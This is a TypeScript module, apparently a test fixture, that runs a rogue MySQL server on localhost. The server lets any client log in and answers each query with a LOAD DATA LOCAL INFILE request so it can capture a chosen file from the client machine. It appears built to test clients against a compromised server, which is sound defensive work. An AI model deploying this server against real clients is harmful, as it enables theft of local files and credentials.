import { createServer, type Socket } from 'node:net'

export interface RogueServer {
  port: number
  /** How often it asked for the file. */
  asked(): number
  /** What clients sent of it; empty when no client sent anything. */
  received(): string
  stop(): Promise<void>
}

/**
 * Speaks just enough of the MySQL protocol to let anybody in, and answers every query by asking the client for a file of its machine, as a
 * server that somebody took over can (LOAD DATA LOCAL needs no statement of the client).
 */
export async function startRogueServer(file: string): Promise<RogueServer> {
  let asked = 0
  let received = ''
  const sockets = new Set<Socket>()
  const server = createServer((socket) => {
    sockets.add(socket)
    socket.on('error', () => undefined)
    socket.write(packet(0, greeting()))
    let state: 'login' | 'queries' | 'file' = 'login'
    let rest = Buffer.alloc(0)
    socket.on('data', (chunk) => {
      rest = Buffer.concat([rest, chunk])
      for (;;) {
        const length = rest.length < 4 ? Number.POSITIVE_INFINITY : rest.readUIntLE(0, 3)
        if (rest.length < 4 + length) return
        const sequence = rest[3] ?? 0
        const body = rest.subarray(4, 4 + length)
        rest = rest.subarray(4 + length)
        if (state === 'file' && body.length > 0) received += body.toString('latin1')
        else if (state === 'login' || state === 'file') {
          socket.write(packet(sequence + 1, OK))
          state = 'queries'
        } else if (body[0] === COM_QUERY) {
          asked += 1
          socket.write(packet(sequence + 1, Buffer.concat([Buffer.from([LOCAL_INFILE]), Buffer.from(file)])))
          state = 'file'
        } else if (body[0] === COM_QUIT) socket.end()
        else socket.write(packet(sequence + 1, OK))
      }
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return {
    port: address.port,
    asked: () => asked,
    received: () => received,
    stop: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy()
        server.close(() => resolve())
      }),
  }
}

const COM_QUIT = 1
const COM_QUERY = 3
const LOCAL_INFILE = 0xfb
const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0])

// 4.1 protocol, connect with database, LOCAL INFILE, transactions, secure connection, plugin authentication.
const CAPABILITIES = 0x0008_0000 | 0x8000 | 0x2000 | 0x0200 | 0x0080 | 0x0008 | 0x0001

export function greeting(): Buffer {
  const salt = Buffer.from('12345678901234567890', 'latin1')
  const head = Buffer.alloc(4)
  head.writeUInt32LE(7)
  const low = Buffer.alloc(2)
  low.writeUInt16LE(CAPABILITIES & 0xffff)
  const high = Buffer.alloc(2)
  high.writeUInt16LE(CAPABILITIES >>> 16)
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('5.5.5-10.11.6-MariaDB\0'),
    head,
    salt.subarray(0, 8),
    Buffer.from([0]),
    low,
    Buffer.from([45, 2, 0]),
    high,
    Buffer.from([21]),
    Buffer.alloc(10),
    salt.subarray(8),
    Buffer.from([0]),
    Buffer.from('mysql_native_password\0'),
  ])
}

export function packet(sequence: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUIntLE(body.length, 0, 3)
  head[3] = sequence & 0xff
  return Buffer.concat([head, body])
}
